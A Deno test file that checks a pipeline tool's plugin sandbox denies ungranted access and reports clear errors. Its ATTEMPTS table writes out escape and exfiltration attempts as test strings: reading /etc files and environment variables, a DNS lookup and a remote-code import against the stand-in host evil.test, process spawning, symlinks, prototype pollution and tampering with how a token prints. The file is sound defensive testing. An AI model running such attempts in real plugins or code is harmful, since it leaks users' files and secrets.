/** Plugins that try to reach what they were not granted: each fails, and the message says which and what. */

import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { catchSpy, CountingServer } from "./_spy.ts";

/** What a plugin tries while it reads, and what the message must say. `PORT` is one of another server. */
const ATTEMPTS: readonly [name: string, code: string, message: string][] = [
  ["reads a file outside", `await Deno.readTextFile("/etc/hostname");`, 'read access to "/etc/'],
  ["reads the pipeline file", `Deno.readTextFileSync(here + "/pipeline.json");`, "read access to "],
  [
    "reads by way of Node",
    `(await import("node:fs")).readFileSync("/etc/hostname");`,
    'read access to "/etc/',
  ],
  ["reads another variable", `Deno.env.get("HOME");`, 'env access to "HOME"'],
  ["reads all variables", `Deno.env.toObject();`, "env access"],
  [
    "fetches from another port",
    `await fetch("http://127.0.0.1:PORT/");`,
    'net access to "127.0.0.1:PORT"',
  ],
  [
    "fetches by the context",
    `await context.fetch("http://127.0.0.1:PORT/");`,
    'net access to "127.0.0.1:PORT"',
  ],
  ["opens a websocket", `new WebSocket("ws://127.0.0.1:PORT/");`, 'net access to "127.0.0.1:PORT"'],
  ["connects by TCP", `await Deno.connect({ port: PORT });`, "net access to "],
  ["asks a name server", `await Deno.resolveDns("token.evil.test", "A");`, "net access to "],
  [
    "tries again for ever",
    `await context.retry("send it home", async () => {
      throw new RetryableError("It failed", { cause: await fetch("http://127.0.0.1:PORT/").catch((e) => e) });
    });`,
    'net access to "127.0.0.1:PORT"',
  ],
  ["spawns a process", `await new Deno.Command("ls").output();`, 'run access to "ls"'],
  ["kills a process", `Deno.kill(1, "SIGTERM");`, "run access"],
  [
    "writes beside the allowed path",
    `await Deno.writeTextFile(here + "/allowed.txt.other", "x");`,
    "write access to ",
  ],
  [
    "writes over the grants",
    `await Deno.writeTextFile(here + "/penstock.lock", "{}");`,
    "write access to ",
  ],
  ["makes a link", `await Deno.symlink("/etc/hostname", here + "/allowed.txt");`, "symlink"],
  ["opens a listening socket", `Deno.listen({ port: 0 });`, "net access to "],
  [
    "serves",
    `Deno.serve({ hostname: "127.0.0.1", port: 0 }, () => new Response());`,
    "net access to ",
  ],
  [
    "imports remote code",
    `await import("https://evil.test/" + "code.ts");`,
    "--cached-only",
  ],
  ["imports a package", `await import("npm:left-" + "pad@1.3.0");`, "--cached-only"],
  ["imports a file", `await import("file://" + here + "/other" + ".ts");`, "read access to "],
  ["loads a library", `Deno.dlopen("/lib/x.so", {});`, 'ffi access to "/lib/x.so"'],
  [
    "asks for more",
    `const { state } = await Deno.permissions.request({ name: "read" });
    if (state !== "granted") throw new Error("read access is " + state);`,
    "read access is denied",
  ],
  [
    "starts a worker that may do more",
    `new Worker("data:text/javascript,1", { type: "module", deno: { permissions: "all" } });
    throw new Error("A worker was started");`,
    "",
  ],
  ["adds to all objects", `Object.prototype.spied = true;`, "not extensible"],
  ["adds to all lists", `Array.prototype.spied = true;`, "not extensible"],
  [
    "changes how secrets print",
    `(options.token.constructor).prototype.toString = () => "x";`,
    "read only",
  ],
];

Deno.test("a plugin fails at all that it was not granted", async () => {
  await using other = new CountingServer();
  const port = String(other.port);
  const attempts = ATTEMPTS.map(([name, code]) =>
    `try { ${code}; context.log.warn("${name}: it could"); }
     catch (error) { context.log.warn("${name}: " + textOf(error)); }`
  );
  const { code, stderr, files } = await catchSpy({
    onLoad:
      `const textOf = (error) => error ? error.message.replaceAll("\\n", " ") + "; " + textOf(error.cause) : "";`,
    onRead: attempts.join("\n").replaceAll("PORT", port),
    permissions: { write: ["allowed.txt"] },
    options: { token: "hunter2-hunter2" },
    files: { "other.ts": "export default 1;" },
  });
  assertEquals(code, 0, stderr);
  const lines = stderr.split("\n");
  for (const [name, , message] of ATTEMPTS) {
    const line = lines.find((one) => one.includes(`${name}: `)) ?? "";
    assert(!line.endsWith("it could"), line);
    assertStringIncludes(line, message.replaceAll("PORT", port));
  }
  assertEquals(other.requests, 0);
  assertEquals(Object.keys(files).filter((file) => !file.startsWith(".penstock")), []);
});

/** Those whose message is looked at as a user sees it. */
const SHOWN = [
  "reads a file outside",
  "reads another variable",
  "fetches by the context",
  "tries again for ever",
  "spawns a process",
  "writes beside the allowed path",
  "opens a listening socket",
  "imports remote code",
  "adds to all objects",
];

for (const [name, code, message] of ATTEMPTS.filter(([name]) => SHOWN.includes(name))) {
  Deno.test(`a plugin that ${name} ends the run, with its name and what it lacks`, async () => {
    await using other = new CountingServer();
    const port = String(other.port);
    const { code: exit, stderr } = await catchSpy({
      onRead: code.replaceAll("PORT", port),
      permissions: { write: ["allowed.txt"] },
    });
    assertEquals(exit, 1, stderr);
    assertStringIncludes(stderr, 'Source "spy"');
    assertStringIncludes(stderr, OUR_WORDS[message] ?? message.replaceAll("PORT", port));
    assertEquals(other.requests, 0);
  });
}

/** Deno's words on the left, ours on the right. */
const OUR_WORDS: Readonly<Record<string, string>> = { "--cached-only": "no code is fetched here" };

const LOADING: readonly [name: string, code: string, message: string][] = [
  ["writes a file", `Deno.writeTextFileSync(here + "/allowed.txt", "x");`, "write access to "],
  ["fetches", `await fetch("http://127.0.0.1:PORT/");`, 'net access to "127.0.0.1:PORT"'],
  ["spawns a process", `new Deno.Command("ls").outputSync();`, 'run access to "ls"'],
  ["starts Deno", `new Deno.Command(Deno.execPath()).outputSync();`, "run access to "],
  ["reads a variable", `Deno.env.get("HOME");`, 'env access to "HOME"'],
  ["reads a file", `Deno.readTextFileSync(here + "/pipeline.json");`, "read access to "],
];

for (const [name, code, message] of LOADING) {
  Deno.test(`a plugin that ${name} when it is loaded is not planned with, whatever it was granted`, async () => {
    await using other = new CountingServer();
    const port = String(other.port);
    const { code: exit, stderr, files } = await catchSpy({
      onLoad: code.replaceAll("PORT", port),
      permissions: { write: ["allowed.txt"], net: [`127.0.0.1:${port}`] },
    });
    assertEquals(exit, 78, stderr);
    assertStringIncludes(stderr, 'source "./spy.ts"');
    assertStringIncludes(stderr, message.replaceAll("PORT", port));
    assertEquals([other.requests, Object.keys(files)], [0, []]);
  });
}

Deno.test("a plugin that lies about what it asks for gets no more for it", async () => {
  const lie = (claims: unknown) =>
    `(await import("node:fs")).writeSync(1, ${
      JSON.stringify(JSON.stringify({ name: "spied", claims }))
    }); Deno.exit(0);`;
  const asked = { read: ["/etc/hostname"], write: [], net: [], env: [] };
  const more = await catchSpy({ onLoad: lie([{ plugin: "./spy.ts", ...asked }]) });
  assertEquals(more.code, 78, more.stderr);
  assertStringIncludes(more.stderr, "+ read /etc/hostname");
  // As if it were a plugin that comes along: such a one is granted nothing by its name.
  const known = await catchSpy({ onLoad: lie([{ plugin: "file", ...asked }]) });
  assertEquals(known.code, 78, known.stderr);
  const wild = await catchSpy({ onLoad: lie([{ plugin: "./spy.ts", ...asked, net: ["*:443"] }]) });
  assertStringIncludes(wild.stderr, "must not print anything");
  const less = await catchSpy({
    onLoad: `if (Deno.args[0] === "claims") { ${lie([])} }`,
    onRead: `await Deno.readTextFile("/etc/hostname");`,
    permissions: { read: ["/etc/hostname"] },
    granted: {},
  });
  assertEquals(less.code, 1, less.stderr);
  assertStringIncludes(less.stderr, 'read access to "/etc/hostname"');
});

Deno.test("a plugin reaches what it declares and was granted", async () => {
  await using server = new CountingServer(() => new Response("hello"));
  const { code, stdout, stderr, files } = await catchSpy({
    onRead: `const text = await (await context.fetch(options.url)).text();
      const file = await context.files.open("allowed.txt");
      await file.append(new TextEncoder().encode(text));
      file.close();
      yield { records: [text], position: {} };`,
    permissions: {
      net: [`127.0.0.1:${server.port}`],
      read: ["allowed.txt"],
      write: ["allowed.txt"],
    },
    options: { url: `http://127.0.0.1:${server.port}/` },
  });
  assertEquals([code, stdout], [0, '"hello"\n'], stderr);
  assertEquals(files["allowed.txt"], "hello");
  assertEquals(server.requests, 1);
});

Deno.test("a plugin that asks for more than was granted stops with the difference and what to do", async () => {
  const { code, stdout, stderr } = await catchSpy({
    permissions: { net: ["old.test:443", "new.test:443"], env: ["HOME"] },
    granted: { net: ["old.test:443", "gone.test:443"] },
  });
  assertEquals([code, stdout], [78, ""]);
  assertStringIncludes(stderr, "  ./spy.ts\n    + net new.test:443\n    + env HOME\n");
  assert(!stderr.includes("old.test"), stderr);
  assertStringIncludes(stderr, "penstock accept ");
});

Deno.test("a plugin that names no exact host is refused", async () => {
  const { code, stderr } = await catchSpy({ permissions: { net: ["*.test:443"] } });
  assertEquals(code, 1, stderr);
  assertStringIncludes(stderr, 'Cannot let source "spy" reach "*.test:443"');
});
